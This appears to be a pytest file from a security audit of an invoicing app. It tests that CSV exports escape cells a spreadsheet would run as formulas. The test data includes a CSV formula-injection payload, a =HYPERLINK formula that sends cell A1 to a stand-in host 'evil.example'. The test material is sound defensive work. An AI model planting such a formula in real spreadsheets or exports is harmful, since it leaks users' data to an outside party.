"""Finding 9: invoice CSV cells that a spreadsheet would run as a formula are escaped."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import httpx
import pytest
from server_factories import wire
from server_world import NOW, World
from sqlalchemy.orm import Session

from workdiary.server.models import Contract
from workdiary.server.services.invoices import csv_cell
from workdiary.server.services.weeks import close_weeks

LOCK = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


def test_a_formula_title_comes_out_inert(http: httpx.Client, world: World, app,  # type: ignore[no-untyped-def]
                                         session: Session) -> None:
    session.get(Contract, world.contract_a).title = TITLE
    session.commit()
    seg = world.device.segment(world.contract_a, NOW.replace(hour=9, minute=0))
    assert http.post("/segments", headers=world.freelancer_a.headers,
                     json={"segments": [wire(seg)]}).status_code == 200
    with app.state.sessionmaker() as db:
        close_weeks(db, LOCK)
    for path in ("/invoices.csv", "/invoices?format=csv"):
        response = http.get(path, headers=world.client_a.headers)
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert rows[0]["contract_title"] == "'" + TITLE
        assert rows[0]["amount_cents"] == "500"  # numbers stay numbers


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_each_dangerous_start_is_escaped(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Contract A", "", "a=b", "1-2", "'quoted"])
def test_plain_text_is_left_alone(text: str) -> None:
    assert csv_cell(text) == text
